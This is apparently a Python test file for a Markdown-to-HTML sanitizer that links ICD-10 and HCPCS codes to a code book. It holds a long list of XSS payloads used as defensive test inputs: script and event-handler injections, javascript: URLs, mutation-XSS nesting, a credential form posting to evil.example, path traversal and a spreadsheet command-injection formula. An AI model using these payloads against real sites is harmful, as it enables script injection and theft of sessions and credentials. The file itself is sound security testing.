"""What somebody wrote comes out as harmless HTML, whatever it was; codes in it lead to the book."""

from html.parser import HTMLParser

import pytest

from sandbox.codes.codeset import CodeSet
from sandbox.talk import folding
from sandbox.talk.writing import LONGEST, REL, TAGS, render, tidy

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=jav&#x09;ascript:alert('XSS');>",
    "<img src=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<b onmouseover=alert(1) hx-get=/signout hx-trigger=load>x</b>",
    "<a href=/x data-hx-post=/classes/1 id=main>x</a>",
    "<form action=https://evil.example><input name=csrf_token><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "</li></ol></main><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "[a](/signout)",
    "[a](/book/../signout)",
    "[a](/book/%2e%2e/signout)",
    "[a](/book/\\..\\signout)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://x.example/1)",
    '[a](https://x.example"onmouseover="alert(1))',
    "[a](https://x.example 'x\" onmouseover=\"alert(1)')",
    '[a"onclick="alert(1)](https://x.example)',
    "[a](https://x.example/<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.png)",
    "[![a](https://evil.example/pixel.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "I10<script>alert(1)</script>E11.22",
    'I10" onclick="alert(1)',
    "*<script>*alert(1)*</script>*",
    "> > > <script>alert(1)</script>",
    "1. <svg/onload=alert(1)>\n   - <math>",
    "99999999999999999999. x",
    "\u202e<script>alert(1)</script>\u202d",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<script\u2028>alert(1)</script\u2029>",
    "<ſcript>alert(1)</ſcript>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{ 7*7 }} {% include 'base.html' %} ${7*7}",
    "=cmd|'/c calc'!A0",
]
"""After the cheat sheets of OWASP and PortSwigger: raw, nested, encoded, mutated, in Markdown and around it."""


class Seen(HTMLParser):
    """Every element and attribute of a piece of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words, self.odd, self.open = "", [], []  # type: tuple[str, list[str], list[str]]
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(attrs) == len(dict(attrs)), "an attribute stands twice"
        self.tags.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "an element is closed that is not open"

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> Seen:
    seen = Seen(html)
    assert not seen.odd and not seen.open
    for tag, attributes in seen.tags:
        assert tag in TAGS, tag
        if tag == "a":
            assert set(attributes) <= {"href", "rel"} and attributes.get("rel") == REL
            href = attributes.get("href") or ""
            assert not href or href.startswith(("http://", "https://", "mailto:", "/book/icd-10-", "/book/hcpcs/")), (
                href
            )
        else:
            assert set(attributes) <= ({"start"} if tag == "ol" else set())
            assert (attributes.get("start") or "1").isdecimal()
    return seen


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str, codes: CodeSet) -> None:
    assert_harmless(render(text, codes))
    assert_harmless(render(tidy(text), codes))


@pytest.mark.parametrize(
    "frame", ["**{}**", "> {}", "- a\n  - {}", "[{}](https://x.example)", "```\n{}", "`{}", "<b>{}"]
)
def test_hostile_text_within_marks_comes_out_harmless(frame: str, codes: CodeSet) -> None:
    for one in HOSTILE:
        assert_harmless(render(frame.format(one), codes))
    for one, other in zip(HOSTILE, reversed(HOSTILE), strict=True):
        assert_harmless(render(frame.format(one + other), codes))


def test_raw_html_is_shown_as_it_was_typed(codes: CodeSet) -> None:
    assert Seen(render("<b>not bold</b> & <script>x</script>", codes)).words == "<b>not bold</b> & <script>x</script>\n"


def test_marks_lists_and_code_are_drawn(codes: CodeSet) -> None:
    html = render("*a* **b** `c`\nd\n\n- e\n\n3. f\n\n> g\n\n```\nh\n```", codes)
    assert {tag for tag, _ in assert_harmless(html).tags} == TAGS - {"a"}
    assert '<ol start="3">' in html


def links(text: str, codes: CodeSet) -> list[str]:
    return [str(attributes["href"]) for tag, attributes in Seen(render(text, codes)).tags if tag == "a"]


def test_codes_that_exist_lead_to_the_book(codes: CodeSet) -> None:
    assert links("I10, E11.22 (or E1122) and 0SRR01A.", codes) == [
        "/book/icd-10-cm/I10",
        "/book/icd-10-cm/E1122",
        "/book/icd-10-cm/E1122",
        "/book/icd-10-pcs/0SRR01A",
    ]


@pytest.mark.parametrize("text", ["I99.77", "vitamin B12", "Q99Z", "XI10", "I10x", "0SRR01U", "2026", "i10"])
def test_what_is_no_code_is_no_link(text: str, codes: CodeSet) -> None:
    assert links(text, codes) == []


def test_a_code_in_a_code_block_or_a_link_stays_as_it_is(codes: CodeSet) -> None:
    text = "`I10`\n\n```\nE11.22\n```\n\n[see I10 and *E11.22*](https://www.cms.gov/I10) <https://x.example/I10>"
    assert links(text, codes) == ["https://www.cms.gov/I10", "https://x.example/I10"]
    assert links("[a](https://x.example) then I10", codes) == ["https://x.example", "/book/icd-10-cm/I10"]


def test_a_text_is_cut_at_its_longest_and_full_of_signs_it_is_drawn(codes: CodeSet) -> None:
    assert len(Seen(render("a" * (LONGEST + 50), codes)).words.strip()) == LONGEST
    for piece in ("[", "*", "_", "`", "> ", "- ", "<", "![", "](", "&#", "[a](", "**a ", "I10 ", "\n> - "):
        assert_harmless(render(piece * (LONGEST // len(piece)), codes))


def test_a_tidy_text_has_nothing_that_cannot_be_seen() -> None:
    assert tidy("\n\n a\x00\u202eb \r\n\r\n\r\n\r\nc\u200b\td\r\n") == " ab\n\nc\td"
    assert tidy(" \n\u200b\n") == ""


@pytest.mark.parametrize(
    "text",
    ["I10?", "is it i10", "e11.22", "E1122", "E11**.**22", "I&#49;0", "&#73;10", "ｉ１０", "I\u200b10", "`I10`",
     "I 10", "M 80 . 052 A", "M-80", "0srr01a", "E11.2X",
     "[x](/book/icd-10-cm/%49%31%30)", "[x](https://x.example/I10)", "x\n~~~\nI10\n~~~"],
)  # fmt: skip
def test_a_text_that_names_a_code_is_known_for_it(text: str, codes: CodeSet) -> None:
    assert folding.names_a_code(text, codes)


@pytest.mark.parametrize(
    "text",
    ["A 78-year-old woman, SpO2 95 %, fell on 2026-05-06 at 10:20.", "A1C of 9, vitamin B6", "Page 10, I think", "",
     "Essential hypertension, M, 80 years; a 50 mg tablet"],
)  # fmt: skip
def test_a_text_of_the_chart_is_not_taken_for_codes(text: str, codes: CodeSet) -> None:
    assert not folding.names_a_code(text, codes)
